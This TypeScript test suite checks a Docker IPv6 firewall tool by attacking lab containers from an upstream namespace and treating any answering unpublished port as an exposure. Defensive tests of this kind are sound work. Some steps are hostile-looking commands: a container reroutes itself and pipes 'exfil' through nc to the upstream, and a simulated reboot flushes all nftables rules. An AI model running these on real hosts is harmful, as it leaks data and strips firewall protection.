// Fault suite, exposure (issue 21): the filter is closed by construction. An attacker upstream of a routed host
// tries networks we did not create (outside the prefix, a bridge name of its own, a host bridge), an internal
// network, a port bound to one host address, and a lost state file, across a reboot. Every unpublished port is
// probed from the upstream namespace; what answers is an exposure. Controls prove each probe could have seen it.
import { renameSync } from 'node:fs';
import { join } from 'node:path';
import type { ExecutionContext } from 'ava';
import { nftBinary } from '../../src/host/nftables';
import type { FaultSuite } from './faults';
import { ok, toolFile, waitFor } from './faults';
import type { Lab } from './lab';
import { receivedUpstream } from './upstream';

export const PREFIX = '2001:db8:2::/48';
export const SERVE = (word: string, port: number) => ['sh', '-c', `while true; do echo ${word} | nc -l -p ${port}; done`];
export const RUN = ['run', '-d', '--restart', 'unless-stopped', '--stop-timeout', '1'];

export async function docker(lab: Lab, args: string[]): Promise<string> {
  const r = await lab.docker(args);
  if (r.code !== 0) throw new Error(`docker ${args.join(' ')}: ${r.stderr}`);
  return r.stdout.trim();
}

export async function addressOf(lab: Lab, name: string): Promise<string> {
  return docker(lab, ['inspect', name, '--format', '{{range .NetworkSettings.Networks}}{{.GlobalIPv6Address}}{{end}}']);
}

/** What a TCP connection from the upstream to [addr]:port reads in one second (the servers answer with a word). */
export async function readFromUpstream(lab: Lab, addr: string, port: number): Promise<string> {
  return (await lab.upstream(['busybox', 'nc', '-w1', addr, String(port)], { input: '' })).stdout;
}

/** Whether an echo request from the upstream is answered. */
export async function pingsFromUpstream(lab: Lab, addr: string): Promise<boolean> {
  return / 1 packets received/.test((await lab.upstream(['busybox', 'ping6', '-c1', '-W1', addr])).stdout);
}

export async function enableRouted(lab: Lab): Promise<void> {
  await ok(lab, ['enable', '--yes', '--prefix', PREFIX, '--mode', 'routed']);
  const r = await lab.upstream(['ip', '-6', 'route', 'replace', PREFIX, 'via', lab.record.addresses.host6]);
  if (r.code !== 0) throw new Error(r.stderr);
}

/**
 * A reboot of the lab host: dockerd stops, the kernel forgets every rule (ours and Docker's: a reboot leaves no
 * leftover of Docker's to hide behind), our unreachable route and forwarding; then systemd-sysctl applies
 * /etc/sysctl.d. The units and dockerd are started by the caller, in their order.
 */
export async function rebootHost(t: ExecutionContext, lab: Lab, stopDockerd: string): Promise<void> {
  await lab.host(['sh', '-c', stopDockerd]);
  await lab.host(['sh', '-c', `${nftBinary()} flush ruleset; ip -6 route del unreachable ${PREFIX} 2>/dev/null; echo 0 > /proc/sys/net/ipv6/conf/all/forwarding; echo 0 > /proc/sys/net/ipv6/conf/default/forwarding; true`]);
  t.is((await lab.host(['ip6tables-save'])).stdout.includes('D6-FORWARD'), false, 'the reboot forgot our chains');
  const conf = join(lab.record.toolRoot, 'etc/sysctl.d/60-docker-ipv6.conf');
  await lab.host(['sh', '-c', `[ -f ${conf} ] && sysctl -q -p ${conf}; true`]);
}

/** Docker's start at boot, then its containers with a restart policy back up. */
export async function dockerBack(t: ExecutionContext, lab: Lab, names: string[]): Promise<void> {
  const up = await lab.lab(['restart']);
  t.is(up.code, 0, up.stderr);
  for (const n of names) await waitFor(`${n} running again`, async () => (await lab.docker(['inspect', '-f', '{{.State.Running}}', n])).stdout.trim() === 'true', 60_000);
}

export interface Probe {
  name: string; port: number; word: string; open: boolean;
  /** where the upstream aims, from the container's address (npt: its outside address); the control stays at the container's */
  at?: (addr: string) => string;
}

/**
 * Probes each target from the upstream (in parallel): an unpublished port that answers is an exposure, an open
 * one that does not is a failed control. Each listener is first checked from the host itself.
 */
export async function probeAll(t: ExecutionContext, suite: FaultSuite, lab: Lab, targets: Probe[], when: string): Promise<void> {
  await Promise.all(targets.map(async (p) => {
    const own = await addressOf(lab, p.name);
    await waitFor(`${p.word} listening on [${own}]:${p.port}`, async () => (await lab.host(['busybox', 'nc', '-w2', own, String(p.port)], { input: '' })).stdout.includes(p.word), 20_000);
    const addr = p.at ? p.at(own) : own;
    let got = await readFromUpstream(lab, addr, p.port);
    if (p.open && !got.includes(p.word)) got = await readFromUpstream(lab, addr, p.port);
    if (p.open) t.true(got.includes(p.word), `${when}: the published ${p.name} [${addr}]:${p.port} answers from the upstream (the control)`);
    else if (got.includes(p.word)) suite.exposed(t, `${when}: ${p.name} [${addr}]:${p.port} answered "${got.trim()}"`);
    else t.pass();
  }));
}

/** Every scenario of issue 21 on one lab (one Docker version and firewall backend). */
export function closedScenarios(suite: FaultSuite, nft: boolean, stopDockerd: (lab: Lab) => string): void {
  suite.scenario('networks we do not own (issue 21.1, 21.5): a network outside the prefix that the upstream routes here, a bridge name of its own, a network on a host bridge: nothing unpublished answers, before and after a reboot', { fault: 'docker network create --ipv6 --subnet fd99:1::/64 (routed upstream), -o com.docker.network.bridge.name=custom1, and =vmbr0 (a host bridge holding host addresses); then a reboot: rules, route and forwarding gone, boot unit, dockerd, apply' }, async (t, lab) => {
    t.teardown(async () => {
      await lab.docker(['rm', '-f', 'out-secret', 'out-pub', 'own-secret', 'own-pub']);
      await lab.docker(['network', 'rm', 'outside', 'lan', 'own']);
      await lab.host(['ip', 'link', 'del', 'vmbr0']);
      await lab.upstream(['ip', '-6', 'route', 'del', 'fd99:1::/64']);
    });
    await enableRouted(lab);
    await lab.upstream(['ip', '-6', 'route', 'replace', 'fd99:1::/64', 'via', lab.record.addresses.host6]);
    // a host bridge (a Proxmox-style vmbr0 with the host's addresses): Docker joins a network to it
    await lab.host(['sh', '-c', 'ip link add vmbr0 type bridge && ip addr add 192.168.77.1/24 dev vmbr0 && ip -6 addr add fd77::1/64 dev vmbr0 && ip link set vmbr0 up']);
    await docker(lab, ['network', 'create', '--ipv6', '--subnet', 'fd99:1::/64', 'outside']);
    await docker(lab, ['network', 'create', '-o', 'com.docker.network.bridge.name=vmbr0', '--subnet', '192.168.77.0/24', '--gateway', '192.168.77.1', 'lan']);
    await docker(lab, ['network', 'create', '--ipv6', '-o', 'com.docker.network.bridge.name=custom1', 'own']);
    await docker(lab, [...RUN, '--name', 'out-secret', '--network', 'outside', 'local/busybox:1', ...SERVE('outsecret', 82)]);
    await docker(lab, [...RUN, '--name', 'out-pub', '--network', 'outside', '-p', '9095:80', 'local/busybox:1', ...SERVE('outpub', 80)]);
    await docker(lab, [...RUN, '--name', 'own-secret', '--network', 'own', 'local/busybox:1', ...SERVE('ownsecret', 84)]);
    await docker(lab, [...RUN, '--name', 'own-pub', '--network', 'own', '-p', '9096:80', 'local/busybox:1', ...SERVE('ownpub', 80)]);
    const apply = await ok(lab, ['apply', '-v']);
    // the attack first, from the upstream; then what our rules say
    const targets: Probe[] = [
      { name: 'out-secret', port: 82, word: 'outsecret', open: false }, { name: 'out-pub', port: 80, word: 'outpub', open: true },
      { name: 'own-secret', port: 84, word: 'ownsecret', open: false }, { name: 'own-pub', port: 80, word: 'ownpub', open: true },
    ];
    await probeAll(t, suite, lab, targets, 'after enable');
    const ours = `${(await lab.host(['ip6tables-save', '-t', 'filter'])).stdout}${(await lab.host([nftBinary(), 'list', 'table', 'ip6', 'docker-ipv6'])).stdout}`;
    // Docker 28/29 leave the host's addresses on a bridge they join (measured): it is not Docker's alone, no rule
    // of ours names it; 20.10 replaces them with the network's gateway (measured): the bridge is then Docker's,
    // closed like any other (no blanket accept from it either way)
    const hostAddrs = /inet6 fd77::1\//.test((await lab.host(['ip', 'addr', 'show', 'dev', 'vmbr0'])).stdout);
    if (hostAddrs) t.notRegex(ours, /vmbr0/, 'no rule of ours names the host bridge');
    else {
      t.log('Docker took the host bridge over (its own addresses gone): closed like every Docker bridge');
      t.regex(ours, nft ? /oifname "vmbr0" drop/ : /-A D6-FORWARD -o vmbr0 -m comment --comment docker-ipv6 -j DROP/);
      t.notRegex(ours, nft ? /iifname "vmbr0" accept/ : /-A D6-FORWARD -i vmbr0 -m comment --comment docker-ipv6 -j ACCEPT/);
    }
    t.regex(ours, nft ? /oifname "custom1" drop/ : /-A D6-FORWARD -o custom1 -m comment --comment docker-ipv6 -j DROP/, 'the bridge name of its own ends in its drop');
    t.notRegex(apply, /fd99:1::\/64 /, 'no rule depends on a subnet');
    const doc = JSON.parse((await lab.exec(['doctor', '--json'])).stdout) as { findings: Array<{ id: string; status: string; detail: string }> };
    t.regex(doc.findings.find((f) => f.id === 'networks.outside-prefix')?.detail ?? '', /network outside \(fd99:1::\/64\) is outside 2001:db8:2::\/48/);
    if (hostAddrs) t.regex(doc.findings.find((f) => f.id === 'firewall.host-bridge')?.detail ?? JSON.stringify(doc.findings.filter((f) => f.status !== 'ok')), /network lan is left out of every rule: its bridge vmbr0 holds/);
    t.false(doc.findings.some((f) => f.id === 'firewall.unfiltered' && f.status === 'fail'), 'doctor sees every network closed');
    // the reboot: the boot unit's skeleton closes the named bridge before Docker (its name is in the state)
    t.deepEqual(JSON.parse((await lab.host(['cat', toolFile(lab, 'state.json')])).stdout).bridges, hostAddrs ? ['custom1'] : ['custom1', 'vmbr0']);
    await rebootHost(t, lab, stopDockerd(lab));
    const boot = await lab.exec(['apply', '--boot']);
    t.is(boot.code, 0, boot.stderr);
    t.regex(boot.stdout, /closed skeleton/);
    await dockerBack(t, lab, ['out-secret', 'own-secret', 'out-pub', 'own-pub']);
    // dockerd is up and forwarding (before docker-ipv6-apply.service): only the skeleton stands
    await probeAll(t, suite, lab, targets.map((x) => ({ ...x, open: false })), 'after the reboot, before apply');
    await ok(lab, ['apply']);
    await probeAll(t, suite, lab, targets, 'after the reboot and apply');
  });

  suite.scenario('an internal network (issue 21.2, 21.6) gets nothing from outside and sends nothing out; a port bound to one host address (21.3) opens nothing at the container; echo and published ports still reach a normal network', { fault: 'docker network create --ipv6 --internal, a NET_ADMIN container adding a default route to send data out; docker run -p [fd00:aa::5]:8085:80 with fd00:aa::5 on a second interface' }, async (t, lab) => {
    t.teardown(async () => {
      await lab.docker(['rm', '-f', 'int-a', 'int-b', 'hostbound', 'plain']);
      await lab.docker(['network', 'rm', 'int']);
      await lab.host(['ip', 'link', 'del', 'mgmt0']);
    });
    await enableRouted(lab);
    await docker(lab, ['network', 'create', '--ipv6', '--internal', 'int']);
    await docker(lab, [...RUN, '--name', 'int-a', '--cap-add', 'NET_ADMIN', '--network', 'int', 'local/busybox:1', ...SERVE('intsecret', 83)]);
    await docker(lab, [...RUN, '--name', 'int-b', '--network', 'int', 'local/busybox:1', 'sleep', '600']);
    // a management ULA on a second interface of the host, and a port bound to it only
    await lab.host(['sh', '-c', 'ip link add mgmt0 type veth peer name mgmt1 && ip link set mgmt1 up && ip link set mgmt0 up && ip -6 addr add fd00:aa::5/64 dev mgmt0 nodad']);
    await docker(lab, [...RUN, '--name', 'hostbound', '-p', '[fd00:aa::5]:8085:80', 'local/busybox:1', ...SERVE('hostbound', 80)]);
    await docker(lab, [...RUN, '--name', 'plain', '-p', '9097:80', 'local/busybox:1', ...SERVE('plain', 80)]);
    await ok(lab, ['apply']);
    await probeAll(t, suite, lab, [
      { name: 'int-a', port: 83, word: 'intsecret', open: false },
      { name: 'hostbound', port: 80, word: 'hostbound', open: false },
      { name: 'plain', port: 80, word: 'plain', open: true },
    ], 'after enable');
    t.regex((await lab.host(['busybox', 'nc', '-w2', 'fd00:aa::5', '8085'], { input: '' })).stdout, /hostbound/, 'the binding works where it was asked for: the host address');
    const intA = await addressOf(lab, 'int-a');
    t.false(await pingsFromUpstream(lab, intA), 'no echo reply from an internal network');
    t.true(await pingsFromUpstream(lab, await addressOf(lab, 'plain')), 'a normal network answers echo (RFC 4890 transit set, documented)');
    t.regex((await lab.docker(['exec', 'int-b', 'nc', '-w2', intA, '83'], { input: '' })).stdout, /intsecret/, 'inside the internal network traffic passes');
    // a container of the internal network routes itself out: nothing arrives upstream
    const gw = (await docker(lab, ['network', 'inspect', 'int', '-f', '{{range .IPAM.Config}}{{.Gateway}} {{end}}'])).split(' ').find((g) => g.includes(':'));
    t.truthy(gw, 'Docker gives the internal network an IPv6 gateway on the bridge');
    const got = await receivedUpstream(lab, '7777', () => lab.docker(['exec', 'int-a', 'sh', '-c', `ip -6 route add default via ${gw} dev eth0; echo exfil | nc -w2 ${lab.record.addresses.upstream6} 7777`]));
    if (got.includes('exfil')) suite.exposed(t, `an internal network's container sent "${got.trim()}" to the upstream`);
    // the control: the same from a normal network arrives
    const control = await receivedUpstream(lab, '7778', () => lab.docker(['exec', 'plain', 'sh', '-c', `echo out | nc -w2 ${lab.record.addresses.upstream6} 7778`]));
    t.regex(control, /out/, 'the upstream listener does receive from a normal network (the control)');
  });

  suite.scenario('a lost state file (issue 21.4): the boot unit fails, holding Docker, with every Docker bridge closed; the printed fix rebuilds the state and apply opens only what is published', { fault: 'mv state.json away while routed mode is enabled, then a reboot; someone starts dockerd by hand anyway' }, async (t, lab) => {
    const state = toolFile(lab, 'state.json');
    t.teardown(async () => {
      await lab.docker(['rm', '-f', 'ls-secret', 'ls-pub']);
      // a failed run leaves the state moved: put it back so the next scenario starts enabled, as it found it
      await lab.host(['sh', '-c', `[ -e ${state} ] || mv ${state}.moved ${state}; rm -f ${state}.moved`]);
    });
    await enableRouted(lab);
    await docker(lab, [...RUN, '--name', 'ls-secret', 'local/busybox:1', ...SERVE('lssecret', 81)]);
    await docker(lab, [...RUN, '--name', 'ls-pub', '-p', '9098:80', 'local/busybox:1', ...SERVE('lspub', 80)]);
    await ok(lab, ['apply']);
    renameSync(state, `${state}.moved`);
    await rebootHost(t, lab, stopDockerd(lab));
    const boot = await lab.exec(['apply', '--boot']);
    t.is(boot.code, 3, `the boot unit fails (docker.service, which requires it, is held): ${boot.stdout}${boot.stderr}`);
    t.regex(boot.stderr, /state\.json is missing, but daemon\.json runs Docker with IPv6 on and its own IPv6 filter off/);
    const fix = /docker ipv6 recover --rebuild-state/.exec(boot.stderr)?.[0];
    t.truthy(fix, boot.stderr);
    t.notRegex(boot.stderr, /move it away|mv /);
    const rules = `${(await lab.host(['ip6tables-save', '-t', 'filter'])).stdout}${(await lab.host([nftBinary(), 'list', 'table', 'ip6', 'docker-ipv6'])).stdout}`;
    t.regex(rules, nft ? /oifname "br-\*" drop/ : /-A D6-FORWARD -o br-\+ -m comment --comment docker-ipv6 -j DROP/, 'the catch-alls are in place');
    // someone starts Docker by hand anyway (forwarding as dockerd turns it on, or as the admin does for nftables)
    if (nft) await lab.host(['sh', '-c', 'echo 1 > /proc/sys/net/ipv6/conf/all/forwarding; echo 1 > /proc/sys/net/ipv6/conf/default/forwarding']);
    await dockerBack(t, lab, ['ls-secret', 'ls-pub']);
    const targets: Probe[] = [{ name: 'ls-secret', port: 81, word: 'lssecret', open: false }, { name: 'ls-pub', port: 80, word: 'lspub', open: false }];
    await probeAll(t, suite, lab, targets, 'state lost, Docker started by hand');
    const apply = await lab.exec(['apply']);
    t.is(apply.code, 3, 'docker-ipv6-apply.service refuses too, changing nothing');
    await probeAll(t, suite, lab, targets, 'state lost, after apply refused');
    // the printed fix, as printed (dry run first), then the units' passes
    const dry = await lab.exec(['recover', '--rebuild-state', '--dry-run']);
    t.is(dry.code, 0, dry.stderr);
    t.regex(dry.stdout, /prefix 2001:db8:2::\/(48|56), mode routed, uplink eth0/);
    t.is((await lab.host(['test', '-e', state])).code, 1, 'the dry run wrote nothing');
    await ok(lab, ['recover', '--rebuild-state']);
    const again = await lab.exec(['apply', '--boot']);
    t.is(again.code, 0, again.stderr);
    await ok(lab, ['apply']);
    await probeAll(t, suite, lab, [{ ...targets[0] }, { ...targets[1], open: true }], 'after the state was rebuilt');
    // and disable still undoes it (the keys enable set go; the note says what the rebuilt state could not know)
    const off = await ok(lab, ['disable', '--yes']);
    t.regex(off, /undone/);
  });
}
